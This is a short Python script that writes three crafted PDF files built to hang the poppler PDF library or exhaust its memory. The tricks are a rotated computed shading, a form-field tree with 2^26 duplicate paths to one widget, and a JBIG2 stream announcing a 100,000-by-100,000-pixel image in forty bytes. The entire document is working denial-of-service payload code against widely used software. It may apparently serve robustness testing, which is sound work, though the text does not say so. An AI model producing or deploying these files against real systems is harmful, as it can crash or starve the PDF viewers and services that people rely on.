# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes PDFs that hang poppler or take gigabytes of it, each by one trick: FOLDER."""
import struct
import sys
from pathlib import Path


def pdf(objects: list) -> bytes:
    """A file of numbered objects, the first of them the catalog."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return data + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, len(data))


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def page(content: bytes, resources: bytes = b"", *more: bytes) -> bytes:
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<%s>>>>" % resources, content, *more])


def turned_shading() -> bytes:
    """A shading whose colour is computed at every place, on a square that stands on a corner."""
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Matrix[85 85 -85 85 300 300]/Function 6 0 R>>"
    function = stream(b"{ 2 copy mul }", b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]")
    return page(stream(b"215 300 170 170 re W n /S sh"), b"/Shading<</S 5 0 R>>", shading, function)


def field_tree(depth: int = 26) -> bytes:
    """A tree of form fields in which every field is twice the child of the one above: 2 to the 26th paths to one box."""
    fields = [
        b"<</Kids[%d 0 R %d 0 R]%s>>" % (number + 1, number + 1, b"/Parent %d 0 R" % (number - 1) if number > 5 else b"")
        for number in range(5, 5 + depth)]
    leaf = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(leaf)/Rect[0 0 1 1]/Parent %d 0 R>>" % (4 + depth)
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R/AcroForm 4 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", b"<</Fields[5 0 R]/NeedAppearances true>>", *fields, leaf])


def jbig2_content(side: int = 100_000) -> bytes:
    """A content stream that is a picture: forty bytes announce 100,000 × 100,000 pixels, more than a gigabyte."""
    information = struct.pack(">IIIIBH", side, side, 0, 0, 0, 0)
    segment = struct.pack(">IBBBI", 0, 48, 0, 1, len(information)) + information
    end = struct.pack(">IBBBI", 1, 49, 0, 1, 0)
    return page(stream(segment + end, b"/Filter/JBIG2Decode"))


def main(folder: Path) -> None:
    for make in (turned_shading, field_tree, jbig2_content):
        (folder / f"{make.__name__.replace('_', '-')}.pdf").write_bytes(make())


main(Path(sys.argv[1]))
